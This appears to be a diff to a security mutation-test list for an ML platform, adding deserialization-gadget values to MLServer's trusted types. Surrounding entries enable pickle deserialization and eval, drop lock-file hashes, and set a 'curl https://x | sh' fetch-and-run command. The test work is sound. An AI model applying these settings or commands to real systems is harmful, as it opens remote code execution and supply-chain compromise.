@@ -108,6 +108,8 @@ MUTATIONS = (
     Mutation("M15", "platform/base", own("terrace_environment", "prod")),
     Mutation("M19", MLFLOW, plain("MLFLOW_ALLOW_PICKLE_DESERIALIZATION", "true")),
     Mutation("M19", MLSERVER, plain("MODEL_SYNC_TRUSTED_TYPES", "builtins.eval")),
+    Mutation("M19", MLSERVER, plain("MODEL_SYNC_TRUSTED_TYPES", "functools.partial,timeit.timeit")),
+    Mutation("M19", MLSERVER, plain("MODEL_SYNC_TRUSTED_TYPES", "numpy.load")),
     Mutation("M20", "drift/evidently-service", own("service_python_lock", UNHASHED)),
     Mutation("M20", "platform/base", own("base_uv_lock", UNHASHED)),
     Mutation("M20", "pipelines/airflow-service", first_process("command", ["/bin/sh", "-ec", "curl https://x | sh"])),
